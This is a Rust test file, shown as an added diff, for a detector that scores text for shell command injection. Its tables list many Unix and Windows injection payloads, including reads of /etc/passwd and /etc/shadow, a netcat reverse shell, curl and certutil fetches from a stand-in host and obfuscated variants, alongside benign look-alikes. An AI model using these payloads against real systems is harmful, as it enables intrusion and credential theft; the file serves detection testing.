@@ -1,0 +1,157 @@
+use super::*;
+
+fn strength(value: &[u8], dialect: Dialect) -> Option<Strength> {
+    shell(value, dialect).map(|found| found.strength)
+}
+
+#[test]
+#[expect(clippy::too_many_lines, reason = "a table")]
+fn commands_of_unix() {
+    for value in [
+        "x; cat /etc/hostname",
+        "a | id",
+        "|id",
+        ";id",
+        "1 && wget http://e.example/x",
+        "$(whoami)",
+        "`id`",
+        "x\nid\n",
+        "; ls -la",
+        "|| sleep 5",
+        "& ping -c 5 127.0.0.1 &",
+        "c\\at /etc/passwd;",
+        "; c''at /etc/passwd",
+        ";w$@hoami",
+        "cat${IFS}/etc/passwd",
+        ";cat$IFS/etc/passwd",
+        "{cat,/etc/passwd}",
+        ";/bin/cat /etc/passwd",
+        ";/???/c?t /???/p??s??",
+        "| nc -e /bin/sh 192.0.2.1 4444",
+        "; echo test",
+        "a;uname -a",
+        "127.0.0.1; ls",
+        "127.0.0.1 | whoami",
+        "$(sleep 5)",
+        "`sleep 5`",
+        ";python3 -c 'import os'",
+        "x;ps",
+        "<(curl http://e.example)",
+        "test;{ls,-la}",
+        "\"; cat /etc/passwd #",
+        "'; curl http://e.example/$(id)",
+        "; \"cat\" /etc/passwd",
+        "|ca\"\"t /etc/passwd",
+        "; sudo cat /etc/shadow",
+        "; FOO=1 bash -c id",
+        "a;wh'o'ami",
+        "||whoami",
+        "; nslookup e.example",
+        "&&ifconfig",
+    ] {
+        assert!(strength(value.as_bytes(), Dialect::Unix) == Some(Strength::Certain), "{value}");
+    }
+    for value in [
+        "salt & pepper",
+        "cats; dogs; birds",
+        "Q&A: find your way",
+        "id|name|date",
+        "dog|cat",
+        "a; find out",
+        "PS: see you; who knows",
+        "rock & roll; more or less",
+        "{name}, welcome",
+        "php|python|ruby",
+        "c; python; ruby",
+        "$(document).ready",
+        "Tom & Jerry; head over heels",
+        "I'd sort it; then cut it",
+        "",
+        ";",
+        "$5 (or more)",
+        "AT&T",
+        "a|b",
+        "less is more",
+        "user-agent; charset=utf-8",
+        "first\nsecond",
+        "text/html; q=0.9",
+        "npm ci && npm test && npm run build",
+        "cat app.log | grep ERROR | sort | uniq -c",
+        "$ cd srv && tar czf backup.tar.gz data",
+        "RUN apt-get update && apt-get install -y curl",
+        "Use `git status`; then `git pull`.",
+        "cat pictures",
+        "find & replace",
+        "date; time; host",
+        "key=value; path=/",
+    ] {
+        assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Likely), "{value}");
+    }
+}
+
+#[test]
+fn scripts_go_on_with_themselves() {
+    for value in ["rm -rf dist && mkdir dist", "ls -la | sort", "curl -O x.tgz; tar xf x.tgz"] {
+        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Likely), "{value}");
+    }
+}
+
+#[test]
+fn commands_before_it_make_no_attack_harmless() {
+    for value in [
+        "git x; cat /etc/passwd",
+        "a=b; ls -la",
+        "npm i; bash -c id",
+        "cd /tmp; curl http://e.example/x -o y",
+        "make x && nc -e /bin/sh 192.0.2.1 1",
+        "echo a; cp /etc/passwd /var/www/html/x",
+        "git x; whoami",
+        "tar x; python3 -c 'import os'",
+        "git log | xargs cat /etc/shadow",
+        "npm test; php /tmp/x.php",
+    ] {
+        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
+    }
+}
+
+#[test]
+fn commands_of_windows() {
+    for value in [
+        "& dir",
+        "| type c:\\windows\\win.ini",
+        "&& ipconfig /all",
+        "& net user",
+        "| whoami",
+        "&ping -n 5 127.0.0.1&",
+        "x & cmd /c dir",
+        "& powershell -enc SQBFAFgA",
+        "|w^h^o^a^m^i",
+        "& reg query HKLM",
+        "&& systeminfo",
+        "& certutil -urlcache -f http://e.example/a",
+        "& timeout /t 5",
+        "| ver",
+        "&tasklist",
+    ] {
+        assert!(strength(value.as_bytes(), Dialect::Windows) == Some(Strength::Certain), "{value}");
+    }
+    for value in [
+        "salt & pepper",
+        "copy & paste",
+        "the net & the user",
+        "date | time",
+        "start & set off",
+        "R&D",
+        "echo & sound",
+    ] {
+        assert!(strength(value.as_bytes(), Dialect::Windows) < Some(Strength::Likely), "{value}");
+    }
+}
+
+#[test]
+fn many_separators_end_and_score() {
+    let found = shell(";".repeat(1 << 20).as_bytes(), Dialect::Unix);
+    assert_eq!(found.map(|found| found.strength), Some(Strength::Likely));
+    let hidden = format!("{}; cat /etc/passwd", "; ".repeat(MAX_PLACES - 2));
+    assert_eq!(strength(hidden.as_bytes(), Dialect::Unix), Some(Strength::Certain));
+}
